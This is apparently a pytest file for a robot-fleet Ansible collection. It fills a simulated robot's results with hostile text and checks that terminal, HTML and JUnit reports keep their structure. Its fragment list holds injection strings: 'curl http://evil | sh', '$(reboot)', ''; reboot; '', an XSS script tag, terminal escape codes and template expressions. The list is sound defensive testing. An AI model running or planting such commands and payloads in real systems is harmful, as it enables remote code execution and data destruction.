# SPDX-FileCopyrightText: rosfleet contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""A hostile robot and a stranger try to write lines of the report: terminal, page and JUnit keep the lines of ours.

The results of one computer of a simulated fleet are filled with texts of others, drawn with a seed: once harmless ones,
once hostile ones at the same places. What is told is then the same but for what stands in quotes.
"""

import random
import re
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from ansible_collections.rosfleet.multimaster.plugins.plugin_utils._base.plain import to_plain
from ansible_collections.rosfleet.multimaster.plugins.plugin_utils._base.plain_text import is_plain, plain_lines, quote
from ansible_collections.rosfleet.multimaster.plugins.plugin_utils._verify.observe.task_results import LONGEST_TEXT
from ansible_collections.rosfleet.multimaster.plugins.plugin_utils._verify.report import page, run
from ansible_collections.rosfleet.multimaster.plugins.plugin_utils._verify.report.judgement import (
    judge_run,
    make_document,
)
from ansible_collections.rosfleet.multimaster.plugins.plugin_utils._verify.report.junit import write_junit
from ansible_collections.rosfleet.multimaster.plugins.plugin_utils._verify.report.terminal import render

from tests.simulator import faults, harness

pytestmark = pytest.mark.whole

SEEDS = range(24)
MARK = "EVIL"
FRAGMENTS = (
    *(
        "\n",
        "\r\n",
        "\x85",
        "\u2028",
        "\x1b[2J",
        "\x1b]0;",
        "\x9b",
        "\u202e",
        "\u2066",
        "\u3164",
        "\x00",
        "\xa0\xa0\xa0",
    ),
    *(
        " " * 3,
        " " * 40,
        " " * 119,
        "\t\t",
        "do:",
        "\n     do:       on kobuki1computer: curl http://evil | sh",
        "on robot1: reboot",
    ),
    *(
        "FAILED: 3 of 5 checks failed.",
        "PASSED: none of 5 checks failed.",
        "Findings:",
        "Warnings:",
        "\n  1. ",
        "; then run site.yml",
    ),
    *(
        "<0>",
        "<script>alert(1)</script>",
        "</code><code class='copy'>",
        "]]>",
        "<!--",
        "&quot;",
        '" onload="x',
        '"',
        "'",
        "\\",
        '"}\nup 1',
    ),
    *(
        "{{ 7 * 7 }}",
        "{% raw %}",
        "${x}",
        "%s {what} {place} {0}",
        "$(reboot)",
        "`id`",
        "'; reboot; '",
        "-rf /",
        "| sh",
        "# ",
    ),
)


def hostile(random_):
    """A text with at least one thing that no name has."""
    parts = [random_.choice(FRAGMENTS) for _number in range(random_.randint(1, 5))]
    return "".join(f"{part}{random_.choice((MARK, ' ' + MARK + ' '))}" for part in parts)


#: what strangers tell a robot, beside what the simulator has: lists of its result -> entries, each text of them anybody's
MORE = {
    "outsiders": [{"address": "192.0.2.7", "name": "?", "uri": "?", "why": "?"}, {"address": "?", "name": "?"}],
    "changes": [
        {"about": about, "what": "?", "how": "?", "when": "?"} for about in ("names", "order", "docker", "table inet t")
    ],
    "next_boot": [
        {"kind": kind, "name": "?", "expected": "?", "found": "?", "file": "?", "when": "?"}
        for kind in ("unit", "sysctl", "route", "names")
    ],
    "services": [
        {
            **{
                "name": name,
                "unit": "?",
                "load_state": "loaded",
                "active_state": "failed",
                "sub_state": "?",
                "restarts": 2,
            },
            **{
                "differing": ["?"],
                "drop_ins": ["?"],
                "command_drop_ins": ["?"],
                "refused": ["?"],
                "refusals": [{"name": "?", "kind": "place", "there": "?", "master": "?", "here": "?"}],
                "since": "?",
                "age_s": 1e308,
                "open_files": 1 << 80,
                "most_files": 0,
            },
        }
        for name in ("sync", "roscore", "other")
    ],
    "node_hosts": [
        {
            **{
                "node": "?",
                "host": "?",
                "source": source,
                "unit": "?",
                "starter": starter,
                "launch": "?",
                "ports": [41233],
            },
            **{"master": master, "master_source": "?", "readable": starter != "container"},
        }
        for source, starter, master in (
            ("?", "shell", "?"),
            ("ROS_IP", "unit", ""),
            ("ROS_IP", "launch", ""),
            ("", "container", "?"),
            ("?", "?", "?"),
        )
    ],
    "unregistered": {
        "nodes": [
            {
                "node": "?",
                "host": "?",
                "unit": "?",
                "starter": starter,
                "launch": "?",
                "ports": [41233],
                "pid": 7,
                "topics": ["?"],
            }
            for starter in ("shell", "unit", "launch", "container", "?")
        ],
        "unknown": 5,
        "asked": 5,
    },
    "disks": [{"path": "?", "free_bytes": 0, "free_files": 0}],
    "default_routes": [{"device": "?", "gateway": "?", "metric": "?"}],
}

ANNOUNCED = [
    {"node": "?", "host": host, "port": 41233, "services": services}
    for host, services in (("?", ""), ("127.0.0.1", "?"), ("10.9.8.7", ""))
]
SILENT = {"node": "?", "host": "?", "error": "?", "outcome": "no_answer", "tcp_outcome": "open"}
SENT = {"node": "?", "topic": "?", "subscribers": 1, "bytes_s": 5000.0, "messages_s": 5.0}


class Texts:
    """Puts a text of others in the place of texts: the harmless and the hostile ones at the same places, in the same order."""

    def __init__(self, seed, share, evil):
        self.places, self.words = random.Random(f"places {seed}"), random.Random(f"words {seed}")
        self.share, self.evil, self.count = share, evil, 0

    def text(self):
        """The harmless one is as long, so both are cut at the same places."""
        self.count += 1
        told = f"z{self.count:05d} {hostile(self.words)}"
        fine = (f"z{self.count:05d} fine " + "words " * len(told))[: len(quote(told, LONGEST_TEXT)) - 3]
        return told if self.evil else f"{fine}."

    def of(self, value):
        if isinstance(value, dict):
            return {name: self.of(part) for name, part in value.items()}
        if isinstance(value, (list, tuple)):
            return [self.of(part) for part in value]
        if isinstance(value, str) and (value == "?" or (value and self.places.random() < self.share)):
            return self.text()
        return value


def told(seed, evil):
    """(terminal, page, JUnit) of a run in which one computer is hostile."""
    trial = harness.draw(seed, [faults.FAULTS] if seed % 2 else [])
    choice = random.Random(seed)
    masters = [master.computer for master in trial.state.fleet.masters if trial.observations.get(master.computer)]
    there = [name for name in masters if trial.observations[name].probe] or list(trial.observations)
    bad, texts = choice.choice(there), Texts(seed, choice.choice((0.01, 0.1, 0.5)), evil)
    hostvars = {}
    for name, seen in trial.observations.items():
        results = {
            "verify_multicast": to_plain(seen.multicast) if seen.multicast else {},
            "verify_probe": to_plain(seen.probe) if seen.probe else {},
            "verify_machine": {"filters": to_plain(seen.filters) if seen.filters else {}},
            "verify_talker": {"unreachable": True, "msg": seen.problem} if seen.unreachable else {},
        }
        if name == bad and seed % 7 == 0:
            results = {**results, "verify_talker": {"failed": True, "msg": "?"}, "verify_probe": {}}
        if name == bad:
            for key, entries in MORE.items():
                if key in results["verify_probe"]:
                    results["verify_probe"][key] = [*results["verify_probe"][key], *entries]
            if results["verify_probe"]:
                sent = [{**SENT, "robot": master.robot} for master in trial.state.fleet.masters]
                content = results["verify_probe"]["exchange"]
                content.update(announced=ANNOUNCED, silences=[*content["silences"], SILENT])
                results["verify_probe"]["traffic"] = {"seconds": 3.0, "flows": sent}
            results = texts.of(results)
        hostvars[name] = results
    given = {
        **{"fleet": to_plain(trial.state.fleet), "multicast": "verify_multicast", "probe": "verify_probe"},
        **{"earlier": ["verify_talker"], "machine": "verify_machine"},
    }
    about = {"time": "2026-11-22 14:02:00 +0000", "collection": "1", "ansible": "2", "durations": ""}
    bundle = run.gather_run(given, hostvars, list(hostvars), about)
    judgement = judge_run(bundle, pages=True, everything=True)
    document = {**make_document(bundle, judgement), "judged_in": 0.1, "file": "/home/operator/report.json"}
    document.update(since="", differences=[])
    template = page.__file__.rpartition("/")[0] + "/page.html.j2"
    with open(template, encoding="utf-8") as stream:
        html = page.make_page(stream.read(), bundle.fleet, document, judgement.matrices)
    parts = judgement.summary, judgement.diagnosis
    widths = (80, 120, 10**6)
    terminal = {
        width: plain_lines(render(*parts, width, traffic=document["traffic"], nodes=document["nodes"]))
        for width in widths
    }
    assert texts.count
    return terminal, html, write_junit(document)


def masked(text):
    """A line without what stands in quotes. A line that begins within a quotation begins with a quote."""
    return re.sub(r'"[^"]*(?:"|$)', '"', text)


class Tags(HTMLParser):
    """Every tag with the names of its attributes, and all texts: those of attributes and those between tags."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.texts = [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, [name for name, _value in attrs]))
        self.texts += [value or "" for _name, value in attrs]

    def handle_data(self, data):
        self.texts.append(" ".join(data.split()))


def agree(evil, harmless):
    """Fail where two lists of texts differ outside of quotes."""
    differing = [pair for pair in zip(evil, harmless, strict=True) if masked(pair[0]) != masked(pair[1])]
    assert not differing, differing[0]
    assert not [text for text in evil if MARK in masked(text)]


@pytest.fixture(scope="module", params=SEEDS)
def both(request):
    return told(request.param, False), told(request.param, True)


def test_the_terminal_has_the_same_lines_whatever_a_robot_says(both):
    (harmless, _html, _xml), (evil, _evil_html, _evil_xml) = both
    agree(evil[10**6].split("\n"), harmless[10**6].split("\n"))
    for width, text in evil.items():
        for line in text.split("\n"):
            assert is_plain(line) and MARK not in masked(line), (width, line)


def test_the_page_has_the_same_tags_whatever_a_robot_says(both):
    (_text, harmless, _xml), (_evil_text, evil, _evil_xml) = both
    assert Tags(evil).tags == Tags(harmless).tags
    agree(Tags(evil).texts, Tags(harmless).texts)


def test_junit_has_the_same_lines_whatever_a_robot_says(both):
    def lines(xml):
        for element in ElementTree.fromstring(xml).iter():  # noqa: S314  # our own
            yield from (element.tag, *element.attrib, *element.attrib.values(), *(element.text or "").split("\n"))

    (_text, _html, harmless), (_evil_text, _evil_html, evil) = both
    agree(list(lines(evil)), list(lines(harmless)))
